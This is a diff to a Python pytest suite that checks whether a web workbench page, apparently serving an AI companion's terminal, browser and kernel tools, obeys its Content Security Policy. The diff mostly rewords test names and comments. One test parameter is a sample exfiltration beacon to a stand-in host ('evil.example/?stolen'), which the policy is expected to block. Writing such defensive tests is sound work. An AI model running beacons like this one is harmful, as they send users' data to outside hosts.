@@ -1,4 +1,4 @@
-"""The page under the companion's policy: nothing that it does is against it, and what is against it doesn't happen."""
+"""The page under the companion's policy: the page doesn't violate it, and violations are blocked."""
 
 from __future__ import annotations
 
@@ -34,7 +34,7 @@ NUMBERS = itertools.count()
 
 @dataclass
 class Reporting:
-    """Has browsers tell what a policy stopped (https://www.w3.org/TR/CSP3/#directive-report-uri), and keeps it."""
+    """Collects browsers' reports of violations (https://www.w3.org/TR/CSP3/#directive-report-uri)."""
 
     app: Any
     reports: list[dict[str, Any]]
@@ -64,19 +64,19 @@ class Served:
     reports: list[dict[str, Any]]
 
     def stopped(self) -> list[tuple[str, str]]:
-        """What policies stopped since the last time: all that was told before a picture that isn't allowed, either."""
-        # A browser tells the same thing once only.
+        """Return the violations since the last call, by provoking one more and waiting for its report."""
+        # A browser reports the same violation only once.
         last = f"http://127.0.0.1:1/{next(NUMBERS)}"
-        # What an <object> names is asked for only when the page was laid out.
+        # An <object> loads only after the page's layout.
         laid_out = "await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));"
         self.surface.javascript(f"{laid_out} new Image().src = arguments[0]", last)
         deadline = time.monotonic() + 20
         while not any(each["blocked-uri"] == last for each in self.reports):
             assert time.monotonic() < deadline, f"the browser doesn't report: {self.reports}"
             self.surface.javascript("await fetch('/tools.json', { method: 'HEAD' })")
-        told = [(each["effective-directive"], each["blocked-uri"]) for each in self.reports]
+        violations = [(each["effective-directive"], each["blocked-uri"]) for each in self.reports]
         self.reports.clear()
-        return [each for each in told if not each[1].startswith("http://127.0.0.1:1/")]
+        return [each for each in violations if not each[1].startswith("http://127.0.0.1:1/")]
 
 
 @pytest.fixture(scope="module")
@@ -117,7 +117,7 @@ def test_page_and_kernel_start_isolated(served: Served) -> None:
     assert served.stopped() == []
 
 
-def test_tools_do_nothing_against_the_policy(served: Served) -> None:
+def test_tools_do_not_violate_the_policy(served: Served) -> None:
     surface, call = served.surface, served.surface.call
     assert call("terminal_execute", command="echo hi | tr h H; python -c 'print(1+1)'")["stdout"] == "Hi\n2\n"
     page = "<title>Site</title><h1>Here</h1><button>Go</button>"
@@ -131,14 +131,14 @@ def test_tools_do_nothing_against_the_policy(served: Served) -> None:
     call("browser_tabs", action="focus", tab="page")
     assert call("browser_screenshot")["width"] > 0
     assert "Workbench" in json.dumps(call("browser_snapshot"))
-    # The kernel's Python may evaluate JavaScript, and the page's script what the person agreed to.
+    # The kernel's Python may evaluate JavaScript, and the page's script may after consent.
     assert surface.python("from pyodide.code import run_js; run_js('6 * 7')") == 42
     [site] = [row["id"] for row in call("browser_tabs") if row["title"] == "Site"]
     assert call("browser_execute_js", code="return 6 * 7", tab=site) == {"result": 42}
     assert served.stopped() == []
 
 
-def test_no_panel_does_anything_against_the_policy(served: Served) -> None:
+def test_panels_do_not_violate_the_policy(served: Served) -> None:
     surface, person = served.surface, Person(served.surface)
     panels = "[...document.querySelectorAll('#panels-menu [aria-pressed]')].map(({ value }) => value)"
     person.click("#panels-button")
@@ -148,13 +148,13 @@ def test_no_panel_does_anything_against_the_policy(served: Served) -> None:
     for name in names:
         person.open_panel(name)
         if surface.javascript("return document.querySelector('#panels-menu').matches(':popover-open')"):
-            # It was in front, and is closed now.
+            # It was in front and is now closed.
             person.click(f"#panels-menu [value={name}]")
         person.sees(f"#{name}")
     assert served.stopped() == []
 
 
-def test_pictures_and_files_go_by_blob_addresses(served: Served) -> None:
+def test_images_and_files_use_blob_addresses(served: Served) -> None:
     read = (
         "const url = URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\"/>'], "
         "{ type: 'image/svg+xml' }));"
@@ -182,7 +182,7 @@ FRAGMENT = "document.body.insertAdjacentHTML('beforeend', '%s')"
         ("new Image().src = 'https://evil.example/?stolen'", "img-src"),
     ],
 )
-def test_what_is_against_it_does_not_happen(served: Served, attempt: str, directive: str) -> None:
+def test_violations_are_blocked(served: Served, attempt: str, directive: str) -> None:
     served.surface.javascript(attempt)
     assert directive in [each[0] for each in served.stopped()]
     assert served.surface.javascript("return globalThis.hacked === undefined")
